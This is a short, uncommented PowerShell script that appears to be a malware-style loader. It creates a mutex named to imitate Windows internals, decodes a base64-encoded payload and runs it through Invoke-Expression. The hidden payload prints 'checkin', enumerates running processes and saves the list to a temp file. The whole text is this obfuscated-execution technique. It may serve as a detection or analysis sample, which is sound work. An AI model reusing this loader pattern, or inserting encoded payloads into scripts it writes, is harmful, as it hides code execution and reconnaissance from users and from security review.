$m = New-Object System.Threading.Mutex($false, 'Local\SM0:4412:168:WilStaging_02')
if (-not $m.WaitOne(0)) { return }
$blob = 'V3JpdGUtT3V0cHV0ICJjaGVja2luIjsgR2V0LVByb2Nlc3MgfCBPdXQtU3RyaW5nIHwgU2V0LUNvbnRlbnQgJGVudjpURU1QXHAudHh0'
$decoded = [System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($blob))
Invoke-Expression -Command $decoded
$m.ReleaseMutex()
